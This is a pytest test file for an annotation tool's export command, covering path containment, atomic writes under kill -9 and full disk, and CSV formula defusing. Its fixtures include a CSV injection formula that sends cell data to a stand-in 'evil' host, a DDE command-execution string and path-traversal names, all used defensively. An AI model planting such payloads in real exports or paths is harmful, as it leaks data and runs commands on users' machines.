"""Issue 12, items 2, 3 and 6 and the CSV formula risk: exports write only under ``--out``,
one file per person whatever their names, all or nothing (a killed or failing export leaves the
previous file), and ``--spreadsheet-safe`` defuses formulas.

The databases here hold what older versions let in (import-annotations now refuses it): label
set names such as ``../../x`` and annotators whose names clean to the same file name.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from annotator.cli import cli
from annotator.services.export.common import inside, safe_file_name, unique_file_names
from annotator.store import Store
from tests.safety_helpers import REPO, seed, simple_document

TWINS = ["Олена", "Ольга", "alice bob", "alice_bob", "alice/bob", "..", ".", "/tmp/x", "CON",
         "Alice", "alice"]


def test_safe_file_name_is_injective_and_stays_inside(tmp_path: Path) -> None:
    names = [*TWINS, "a" * 300, "x~0123456789", "", "-", "a\x00b", "a\nb"]
    files = unique_file_names(names)
    assert len(set(files.values())) == len(names)
    assert len({f.casefold() for f in files.values()}) == len(names)
    for n, f in files.items():
        assert f and f not in (".", "..") and not f.startswith(("/", ".")) and "/" not in f
        assert len(f) <= 100 and inside(tmp_path, f, "x.txt").parent.parent == tmp_path, n
    assert safe_file_name("alice") == "alice"  # a name that needs nothing keeps its form
    assert safe_file_name("Олена") == safe_file_name("Олена")  # stable
    for bad in ("../x", "/etc/passwd", "a/../../b"):
        with pytest.raises(Exception, match="outside"):
            inside(tmp_path, bad)


def _db_with_twins(path: Path) -> Path:
    """Every twin annotated one span and one sentence label (and marked done); two label sets
    with path names; documents whose external ids are '.' and '..'."""
    with Store.open(path) as s:
        scheme_id = seed(s, n_docs=0)
        docs = s.corpus.add_documents([
            simple_document("Titre un\nLe ministre a parlé.\nFin.\n", external_id="."),
            simple_document("Titre deux\nLa ville attend.\nFin.\n", external_id=".."),
        ])
        ids = [s.db.insert("annotators", {"name": name, "created_at": "2026-01-01"})
               for name in TWINS]
        for doc_id, _ in docs:
            sents = s.corpus.sentences(doc_id)
            for n, who in enumerate(ids):
                sent = sents[1]
                s.annotations.add(who, scheme_id, label_set="technique", label="Doubt",
                                  level="span", document_id=doc_id, sentence_id=sent["id"],
                                  start=sent["start"] + n % 3, end=sent["end"])
                for set_name in ("../../escape", "/tmp/abs-escape"):
                    s.db.insert("annotations", {
                        "uid": f"{doc_id}-{n}-{set_name}", "annotator_id": who,
                        "scheme_id": scheme_id, "label_set": set_name, "label": "Political",
                        "level": "sentence", "document_id": doc_id, "sentence_id": sent["id"],
                        "created_at": "2026-01-01"})
                for st in sents:
                    s.progress.mark_done(who, scheme_id, st["id"])
    return path


@pytest.mark.parametrize("fmt", ["semeval", "brat", "conll"])
def test_exports_stay_under_out_and_keep_every_person(tmp_path: Path, fmt: str) -> None:
    db = _db_with_twins(tmp_path / "twins.db")
    work = tmp_path / "work"
    (work / "inner").mkdir(parents=True)
    out = work / "inner" / "out"
    before = set(tmp_path.rglob("*")) - set(out.parent.rglob("*"))
    res = CliRunner().invoke(cli, ["export", "--format", fmt, "--out", str(out), "--db", str(db)])
    assert res.exit_code == 0, res.output
    after = set(tmp_path.rglob("*")) - set(out.parent.rglob("*"))
    # nothing written outside --out (a read-only connection leaves SQLite's -wal/-shm files)
    assert {p for p in after - before if not p.name.endswith(("-wal", "-shm"))} == set()
    assert not Path("/tmp/abs-escape-spans").exists()
    written = [p for p in out.rglob("*") if p.is_file()]
    assert all(not p.name.startswith(".") for p in written), written  # no hidden file
    per_person = {p.relative_to(out).parts[0] for p in written if p.parent != out
                  and p.relative_to(out).parts[0] != "articles"}
    if fmt == "conll":
        per_person = {p.stem for p in written}
    assert len(per_person) == len(TWINS), sorted(per_person)
    if fmt == "brat":  # each person's own spans, none merged with another's
        for d in per_person:
            anns = sorted((out / d).glob("*.ann"))
            assert len(anns) == 2 and all("Doubt" in a.read_text() for a in anns), d


def test_export_is_atomic_when_killed(tmp_path: Path) -> None:
    """kill -9 at random moments of a big JSONL and CSV export: the final name holds the
    previous complete export or nothing, never a truncated file."""
    db = tmp_path / "big.db"
    with Store.open(db) as s:
        seed(s, n_docs=1500, n_sentences=30)
    for fmt, out in (("jsonl", tmp_path / "e.jsonl"), ("csv", tmp_path / "e.csv")):
        res = CliRunner().invoke(cli, ["export", "--format", fmt, "--out", str(out),
                                       "--db", str(db)])
        assert res.exit_code == 0, res.output
        complete = out.read_bytes()
        cmd = [sys.executable, "-m", "annotator", "export", "--format", fmt, "--out", str(out),
               "--db", str(db), "-q"]
        for delay in (0.0, 0.01, 0.05):
            p = subprocess.Popen(cmd, cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)},
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            # kill it while it writes: once its temporary file exists, after ``delay``
            deadline = time.monotonic() + 60
            while p.poll() is None and time.monotonic() < deadline and not _writing(out):
                time.sleep(0.001)
            time.sleep(delay)
            p.send_signal(signal.SIGKILL)
            p.wait()
            assert out.read_bytes() == complete, (fmt, delay)
    leftovers = [x.name for x in tmp_path.iterdir() if x.name.endswith(".tmp")]
    assert leftovers, "no kill landed during a write"
    for x in leftovers:  # a killed export may leave its hidden temporary file, nothing else
        assert x.startswith((".e.jsonl.", ".e.csv.")), x


def _writing(out: Path) -> bool:
    for x in out.parent.glob(f".{out.name}.*.tmp"):
        try:
            if x.stat().st_size > 0:
                return True
        except FileNotFoundError:  # renamed meanwhile
            pass
    return False


def test_export_full_disk_keeps_previous_file(tmp_path: Path) -> None:
    """A file-size limit (what a full disk does to a write): the export fails in one line and
    the previous export is still whole; no temporary file is left."""
    db = tmp_path / "big.db"
    with Store.open(db) as s:
        seed(s, n_docs=200, n_sentences=30)
    out = tmp_path / "e.jsonl"
    res = CliRunner().invoke(cli, ["export", "--format", "jsonl", "--out", str(out),
                                   "--db", str(db)])
    assert res.exit_code == 0
    complete = out.read_bytes()
    code = ("import resource, signal, sys\n"
            "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
            "resource.setrlimit(resource.RLIMIT_FSIZE, (20000, 20000))\n"
            "sys.argv[0] = 'annotator'\n"
            "from annotator.cli import cli\ncli()\n")
    res2 = subprocess.run([sys.executable, "-c", code, "export", "--format", "jsonl", "--out",
                           str(out), "--db", str(db), "-q"], cwd=REPO, capture_output=True,
                          text=True, env={**os.environ, "PYTHONPATH": str(REPO)})
    assert res2.returncode == 1, res2.stderr
    assert "Traceback" not in res2.stderr and len(res2.stderr.strip().splitlines()) == 1
    assert out.read_bytes() == complete
    assert [x.name for x in tmp_path.iterdir() if x.name.endswith(".tmp")] == []


def test_spreadsheet_safe_csv(tmp_path: Path) -> None:
    db = tmp_path / "f.db"
    with Store.open(db) as s:
        scheme_id = seed(s, n_docs=0)
        [(doc_id, _)] = s.corpus.add_documents([simple_document(
            '=HYPERLINK("http://evil/?"&A1,"x")\n+1+1\n-2\n@SUM(1)\nnormal\n',
            title="=cmd|' /C calc'!A0")])
        who = s.schemes.annotator_id("alice")
        for sent in s.corpus.sentences(doc_id):
            s.annotations.add(who, scheme_id, label_set="frame", label="Political",
                              level="sentence", document_id=doc_id, sentence_id=sent["id"],
                              note="=1+1")
    plain, safe = tmp_path / "plain.csv", tmp_path / "safe.csv"
    for out, extra in ((plain, []), (safe, ["--spreadsheet-safe"])):
        res = CliRunner().invoke(cli, ["export", "--format", "csv", "--out", str(out),
                                       "--db", str(db), *extra])
        assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(plain.read_text("utf-8"))))
    assert {r["sentence_text"] for r in rows} >= {"+1+1", "-2", "@SUM(1)", "normal"}
    assert rows[0]["title"] == "=cmd|' /C calc'!A0" and rows[0]["note"] == "=1+1"  # exact
    safe_rows = list(csv.DictReader(io.StringIO(safe.read_text("utf-8"))))
    for r in safe_rows:
        for v in r.values():
            assert not v.startswith(("=", "+", "-", "@")), (v, r)
    assert {r["sentence_text"] for r in safe_rows} >= {"'+1+1", "'-2", "'@SUM(1)", "normal"}
    res = CliRunner().invoke(cli, ["export", "--format", "jsonl", "--out", str(tmp_path / "j"),
                                   "--db", str(db), "--spreadsheet-safe"])
    assert res.exit_code == 2 and "--format csv" in res.output


def test_doctor_backup_is_complete_or_absent_when_killed(tmp_path: Path) -> None:
    """kill -9 during `doctor --repair` while it copies the database: any file under a backup
    name (*.doctor-*) opens, passes integrity_check and holds every table; a half-written copy
    only ever exists under a "-partial-" name that doctor never advises restoring."""
    import sqlite3

    db = tmp_path / "a.db"
    with Store.open(db) as s:
        seed(s, n_docs=1500, n_sentences=30)
        s.db.execute("DROP TRIGGER sentences_au")  # a finding doctor repairs (after a backup)
    tables = {r[0] for r in sqlite3.connect(db).execute(
        "SELECT name FROM sqlite_master WHERE type = 'table'")}
    cmd = [sys.executable, "-m", "annotator", "doctor", "--repair", "--db", str(db)]
    killed_during_copy = 0
    for delay in (0.0, 0.0, 0.002, 0.01):
        p = subprocess.Popen(cmd, cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)},
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 60
        while p.poll() is None and time.monotonic() < deadline and not any(
            "-partial-" in x.name or x.name.startswith("a.db.doctor-")
            for x in tmp_path.iterdir()
        ):
            time.sleep(0.0005)
        time.sleep(delay)
        killed_during_copy += p.poll() is None
        p.send_signal(signal.SIGKILL)
        p.wait()
        for backup in tmp_path.glob("a.db.doctor-*"):
            conn = sqlite3.connect(backup)
            try:
                assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok", backup
                have = {r[0] for r in conn.execute(
                    "SELECT name FROM sqlite_master WHERE type = 'table'")}
                assert have == tables, backup
                assert conn.execute("SELECT count(*) FROM sentences").fetchone()[0] == 45_000
            finally:
                conn.close()
        with Store.open(db) as s:  # the database itself is fine; repair again next round
            s.db.execute("DROP TRIGGER IF EXISTS sentences_au")
    assert killed_during_copy, "no kill landed during the copy"
